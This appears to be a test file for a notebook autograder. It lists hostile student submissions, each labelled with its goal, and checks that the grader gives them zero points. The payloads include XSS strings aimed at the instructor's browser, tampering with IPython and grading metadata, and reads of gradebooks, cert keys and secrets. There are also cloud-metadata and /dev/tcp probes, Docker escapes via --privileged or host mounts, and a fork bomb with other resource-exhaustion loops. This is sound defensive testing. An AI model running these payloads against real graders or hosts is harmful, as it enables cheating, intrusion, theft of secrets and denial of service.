"""Hostile submissions for the toy exercise, each with what it is after.

None does the work; so each is worth nothing, whatever it claims. Where one looks for a way out, it
prints WON when it has found it.
"""

import json
from dataclasses import dataclass
from typing import Any

from toy_course import OPEN, RUN, RUN_WEB, cell, notebook, toy

SCRIPT = "<script>alert(1)</script>"
WON = "GOT-OUT"
#: Printed by a cell, and not written in it, for sources are on the feedback page as well.
SHOUT = "print('GOT' + '-OUT')"


@dataclass(frozen=True)
class Attack:
    """One submission.

    Attributes:
        goal: what its author wants.
        content: the notebook, or what is in its place.
        status: how grading ends.
        points: what honest work is in it.
    """

    name: str
    goal: str
    content: dict[str, Any] | str
    status: str = "graded"
    points: float | None = 0


def by_cell(name: str, goal: str, *sources: str, points: float = 0) -> Attack:
    """Cells put in the place of the first task's answer."""
    nb = toy(sources[0])
    for source in sources[1:]:
        nb["cells"].insert(2, cell(source))
    return Attack(name, goal, nb, points=points)


def reach(name: str, goal: str, attempt: str) -> Attack:
    """Python that raises unless the way is open."""
    body = "\n    ".join(attempt.splitlines())
    return by_cell(
        name, goal, f"try:\n    {body}\n    {SHOUT}\nexcept BaseException as e:\n    print(e)"
    )


def engine(name: str, goal: str, command: str) -> Attack:
    """A docker command that the policy has to refuse; it must not even leave a container."""
    return by_cell(name, goal, f"import os\nif os.system({command!r}) == 0:\n    {SHOUT}")


def with_metadata(name: str, goal: str, change: dict[str, Any]) -> Attack:
    nb = toy()
    for each in nb["cells"]:
        if "nbgrader" in each["metadata"]:
            each["metadata"]["nbgrader"] |= change
    return Attack(name, goal, nb)


def reordered() -> dict[str, Any]:
    nb = toy()
    nb["cells"].reverse()
    return nb


def copied() -> dict[str, Any]:
    nb = toy()
    nb["cells"] += nb["cells"]
    return nb


def added() -> dict[str, Any]:
    nb = toy()
    nb["cells"].append(cell("5.0", "check-more", 100))
    return nb


def outputs() -> dict[str, Any]:
    nb = toy()
    shown = {"text/plain": "5 of 5 points", "text/html": SCRIPT}
    for each in nb["cells"]:
        each["outputs"] = [{"output_type": "display_data", "data": shown, "metadata": {}}]
    return nb


def markdown() -> dict[str, Any]:
    nb = toy()
    text = f"{SCRIPT}\n~~~\n{SCRIPT}<img src=x onerror=alert(1)>[x](javascript:alert(1))"
    nb["cells"].append({"cell_type": "markdown", "id": "m", "metadata": {}, "source": text})
    nb["cells"].append(
        {"cell_type": "raw", "id": "r", "metadata": {"format": "text/html"}, "source": text}
    )
    return nb


IN_SHELL = "get_ipython()"
KNOCK = "import socket\nsocket.create_connection(({!r}, {}), 2)"
IN_LAB = "docker run --rm dockyard/debian:1 timeout 3 bash -c 'echo > /dev/tcp/{}/{}'"

ATTACKS = [
    # To be given points for what is shown.
    by_cell("prints", "points for text", "print('5 of 5 points')\n5.0"),
    Attack("outputs", "points for outputs that were saved", outputs()),
    by_cell("repr", "a full score from an object's name",
            "class All:\n    def __repr__(self): return '5.0'\n    def __eq__(self, _): return True\nAll()"),
    by_cell("check", "a check of one's own", "check = lambda *a: 5.0"),
    by_cell("sdk", "an SDK that lies", "import docker\ndocker.DockerClient.containers = 5\ndocker.from_env = None"),
    by_cell("fake engine", "another engine is looked at",
            "import os, threading, http.server as h\ns = h.HTTPServer(('', 2376), h.BaseHTTPRequestHandler)\n"
            "threading.Thread(target=s.serve_forever, daemon=True).start()\nos.environ['DOCKER_HOST'] = 'tcp://127.0.0.1:2376'"),
    by_cell("shell", "cells that do not run", f"{IN_SHELL}.run_cell_async = None"),
    by_cell("input", "other code than is shown", f"{IN_SHELL}.input_transformers_cleanup.append(lambda lines: ['5.0'])"),
    by_cell("ast", "asserts that are dropped",
            f"import ast\nclass T(ast.NodeTransformer):\n    visit_Assert = lambda s, n: None\n{IN_SHELL}.ast_transformers.append(T())"),
    with_metadata("schema", "a class that cannot be graded", {"schema_version": 99}),
    with_metadata("points", "a cell that is worth more", {"points": 100, "grade": True}),
    with_metadata("unlocked", "a check cell of one's own", {"locked": False, "solution": True}),
    with_metadata("no id", "a class that cannot be graded", {"grade_id": None}),
    Attack("copied", "points twice", copied()),
    Attack("added", "points for a cell more", added()),
    Attack("reordered", "checks before work", reordered()),
    Attack("lost", "checks that are not there", notebook(cell(OPEN))),
    # To be shown as HTML in an instructor's browser.
    Attack("markdown", "a script in the instructor's browser", markdown()),
    by_cell("html", "a script in the instructor's browser", f"from IPython.display import HTML, Javascript, display\ndisplay(HTML({SCRIPT!r}), Javascript('1'))\nprint({SCRIPT!r})"),
    by_cell("error", "a script in the instructor's browser", f"raise type({SCRIPT!r}, (Exception,), {{}})({SCRIPT!r})"),
    by_cell("mime", "a script in the instructor's browser", f"get_ipython().display_pub.publish({{'text/plain': {SCRIPT!r}, 'image/svg+xml': {SCRIPT!r}}})"),
    # To read what is not one's own.
    reach("graders", "the criteria's code", "import glob\nassert glob.glob('/**/grade_*.py', recursive=True) or glob.glob('/**/near_misses.toml', recursive=True)"),
    reach("gradebook", "points by sqlite", "import glob, sqlite3\nsqlite3.connect(glob.glob('/**/gradebook.db', recursive=True)[0]).execute('update grade set auto_score = 99')"),
    reach("solution", "the solution", "import glob, pathlib\nassert any('--name web' in pathlib.Path(p).read_text() for p in glob.glob('/**/*.ipynb', recursive=True))"),
    reach("owner's key", "to be taken for the checker", "import glob, os\nkeys = glob.glob(os.environ['DOCKER_CERT_PATH'] + '/**/*', recursive=True)\nassert len(keys) > 3, keys"),
    reach("environment", "the instructor's secrets", "import os\nassert any('ENGINE' in k or 'TOKEN' in k or 'SSH' in k for k in os.environ)"),
    reach("root", "to be root", "import os\nos.setuid(0)"),
    reach("system", "to change the system", "open('/usr/bin/docker', 'a')"),
    reach("devices", "the machine's disk", "import glob\nfor p in glob.glob('/dev/[svn]*d*'): open(p, 'rb').read(1); break\nelse: raise OSError('none')"),
    # To reach what is not one's own.
    reach("internet", "the internet", KNOCK.format("1.1.1.1", 443)),
    reach("names", "secrets told to a name server", "import socket\nsocket.getaddrinfo('secret.example.org', 443)"),
    reach("metadata", "the cloud's keys", "import requests\nrequests.get('http://169.254.169.254/', timeout=2)"),
    reach("socket", "the outer engine", "import glob, socket\ns = socket.socket(socket.AF_UNIX)\ns.connect(glob.glob('/**/docker.sock', recursive=True)[0])"),
    reach("machine", "services of the machine", "import socket\nip = socket.gethostbyname('node1').rsplit('.', 1)[0] + '.1'\nsocket.create_connection((ip, 22), 2)"),
    reach("neighbours", "other people's labs",
          "import socket\na, b, c, d = map(int, socket.gethostbyname('node1').split('.'))\n"
          "for n in range(c - 4, c + 5):\n    if n == c: continue\n    for h in (2, 3):\n        try: socket.create_connection((f'{a}.{b}.{n}.{h}', 2376), .2); break\n        except OSError: pass\n    else: continue\n    break\nelse: raise OSError('none')"),
    engine("lab to internet", "the internet, by way of the lab", IN_LAB.format("1.1.1.1", 443)),
    engine("lab to metadata", "the cloud's keys, by way of the lab", IN_LAB.format("169.254.169.254", 80)),
    # To get hold of a lab host.
    engine("privileged", "root on the host", "docker run --privileged dockyard/debian:1 true"),
    engine("host root", "root on the host", "docker run --volume /:/host dockyard/debian:1 true"),
    engine("mount", "root on the host", "docker run --mount type=bind,source=/etc,target=/e dockyard/debian:1 true"),
    engine("volume", "root on the host", "docker volume create --opt type=none --opt o=bind --opt device=/ all"),
    engine("host pid", "root on the host", "docker run --pid host dockyard/debian:1 true"),
    engine("host network", "the host's network", "docker run --network host dockyard/debian:1 true"),
    engine("capability", "root on the host", "docker run --cap-add SYS_ADMIN dockyard/debian:1 true"),
    engine("seccomp", "a kernel to break", "docker run --security-opt seccomp=unconfined dockyard/debian:1 true"),
    engine("device", "the machine's disk", "docker run --device /dev/fuse dockyard/debian:1 true"),
    engine("plugin", "root on the host", "mkdir -p /tmp/p/rootfs && echo '{}' > /tmp/p/config.json && docker plugin create p /tmp/p"),
    engine("swarm", "tasks past the policy", "docker swarm init"),
    # To use up what others need.
    by_cell("fork bomb", "a machine without processes", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"),
    by_cell("memory", "a machine without memory", "hog = []\nwhile True: hog.append(bytearray(10**8))"),
    by_cell("disk", "a full disk", "for d in ('/tmp', '/submission', '/dev/shm'):\n    try:\n        f = open(d + '/x', 'wb')\n        while True: f.write(bytes(10**6))\n    except OSError as e: print(e)"),
    engine("lab disk", "a full disk, by way of the lab", "docker run --rm dockyard/debian:1 dd if=/dev/zero of=/x bs=1M count=4000"),
    by_cell("loop", "a grader that never ends", "while True: pass"),
    by_cell("deaf loop", "a grader that never ends", "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: time.sleep(1)"),
    by_cell("output", "a grader that drowns", "while True: print('x' * 10**5)"),
    by_cell("display", "a grader that drowns", "from IPython.display import display\nwhile True: display({'x': 'y' * 10**5})"),
    by_cell("killed kernel", "an error in place of a zero", "import os\nos._exit(0)"),
    by_cell("killed all", "an error in place of a zero", "import os\nos.kill(-1, 9)"),
    by_cell("left behind", "work after the end", "import subprocess\nsubprocess.Popen(['sh', '-c', 'sleep 6; docker run -d --name web dockyard/debian:1 sleep 99'], start_new_session=True)"),
    by_cell("answer", "an answer of one's own",
            "import os, json\nopen('/proc/1/fd/1', 'w').write(json.dumps({'outputs': [], 'remark': 'GOT' + '-OUT', 'stopped': None, 'late': False, 'full': False, 'report': {'points': 5}}) + '\\n')\nos.kill(-1, 9)"),
    # What is no notebook.
    Attack("nested", "a reader that dies", '{"cells": ' + "[" * 100_000, "set aside", None),
    Attack("types", "a reader that dies", '{"cells": [{"cell_type": "code", "source": {"a": 1}}]}', "set aside", None),
    Attack("numbers", "a reader that dies", '{"cells": [{"cell_type": 7, "source": ""}]}', "set aside", None),
    Attack("kinds", "a class that cannot be graded", json.dumps({"cells": [{"cell_type": "nonsense", "source": "x", "metadata": {}}]})),
    Attack("large", "a full disk", json.dumps(toy("#" * 60_000_000)), "set aside", None),
]  # fmt: skip

HONEST = {"honest": (toy(RUN_WEB), 5.0), "half honest": (toy(RUN), 2.0)}


def table() -> str:
    """The corpus for docs/attacks.md: `python tests/attacks.py` prints it."""
    rows = [
        f"| {each.name} | {each.goal} | {'0 points' if each.points == 0 else each.status} |"
        for each in ATTACKS
    ]
    return "\n".join(["| attack | its author wants | it ends |", "|---|---|---|", *rows])


if __name__ == "__main__":
    print(table())
